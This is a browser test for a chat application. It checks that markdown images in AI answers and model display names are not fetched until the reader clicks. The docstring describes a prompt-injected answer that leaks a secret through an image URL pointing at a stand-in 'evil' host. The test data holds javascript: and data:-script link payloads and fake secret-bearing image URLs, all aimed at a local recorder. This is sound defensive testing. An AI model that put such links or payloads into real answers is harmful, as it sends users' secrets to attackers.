"""Markdown images in answers and names are not fetched until the reader clicks (#21.6), in Debian's Chromium.

A prompt-injected answer can carry `![x](https://evil/leak?d=SECRET)`: drawn as an image, the browser sends
the secret out with no click. Here the image points at a local server that records every request.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sqlalchemy import update

from alonchat.storage.engine import session
from alonchat.storage.tables import AIModel
from tests.fake_server import FAKE_KEYS
from tests.support.browser_app import ARTIFACTS, need_chromium, running_app, settled

pytestmark = pytest.mark.browser

PNG_1PX = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                        "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")


class Recorder(ThreadingHTTPServer):
    """A local image host that records every request it gets, and says so with an event."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Handler)
        self.paths: list[str] = []
        self.fetched = threading.Event()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.paths.append(self.path)
        self.server.fetched.set()
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PNG_1PX)))
        self.end_headers()
        self.wfile.write(PNG_1PX)

    def log_message(self, *args):
        pass


@pytest.fixture
def images():
    server = Recorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def app_url(fresh_env, fake_server, tmp_path):
    need_chromium()
    with running_app(fresh_env, tmp_path, ALONCHAT_USER="browser-tester", OPENAI_BASE_URL=fake_server.url + "/v1",
                     ANTHROPIC_BASE_URL=fake_server.url, GOOGLE_GEMINI_BASE_URL=fake_server.url, **FAKE_KEYS) as url:
        yield url


def test_an_answers_images_load_only_when_the_reader_clicks(app_url, browser, fake_server, images):
    leak = f"{images.url}/leak.png?d=SECRETDATA"
    fake_server.script("gpt-5.4-mini", delay=0.01, reply=(
        f"Here is the chart: ![chart]({leak})\n\n"
        f"And again by reference: ![again][r]\n\n[r]: {images.url}/ref.png?d=REFDATA\n\n"
        f"<img src=\"{images.url}/html.png?d=HTMLDATA\">\n\n"
        "[run me](javascript:alert(1)) and [open me](data:text/html,<script>alert(2)</script>) "
        "and [a fine link](https://example.com/docs)"))
    with session() as s, s.begin():  # a display name is plain text: its image markdown is shown, never drawn
        s.execute(update(AIModel).where(AIModel.name == "gpt-5.4-mini")
                  .values(display_name=f"Mini ![logo]({images.url}/name.png?d=NAMEDATA)"))
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(f"{app_url}/?p=0:gpt-5.4-mini")
    settled(page)
    box = page.locator("[data-testid='stChatInputTextArea']")
    box.fill("Show me the chart")
    box.press("Enter")
    pane = page.locator(".st-key-pg_pane_0")
    page.wait_for_function("(document.querySelector('.st-key-pg_pane_0') || {innerText: ''}).innerText"
                           ".includes('tok/s')", timeout=60_000)
    settled(page)
    load = pane.get_by_role("button", name="Load 2 images from outside")
    load.wait_for(timeout=30_000)  # the stored answer, drawn after the stream
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "playground-images-held.png"), full_page=True)

    assert images.paths == []  # nothing was fetched: not while streaming, not stored, not the display name
    text = pane.inner_text()
    assert "image chart not loaded" in text and "leak.png?d=SECRETDATA" in text  # the reader sees where it points
    assert "image again not loaded" in text and "ref.png?d=REFDATA" in text
    assert "Mini ![logo](" in text  # the display name, as written
    assert pane.locator("img[src*='127.0.0.1']").count() == 0
    hrefs = pane.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
    assert "https://example.com/docs" in hrefs
    assert not [h for h in hrefs if h.lower().startswith(("javascript:", "data:"))], hrefs
    assert "[run me](javascript:alert(1))" in text  # shown as text, not as a link

    load.click()
    assert images.fetched.wait(30), "the images load once the reader asks"
    settled(page)
    pane.locator(f"img[src*='{images.url}/leak.png']").wait_for(state="attached", timeout=30_000)
    assert any("d=SECRETDATA" in p for p in images.paths) and any("d=REFDATA" in p for p in images.paths)
    assert not any("NAMEDATA" in p or "HTMLDATA" in p for p in images.paths), images.paths
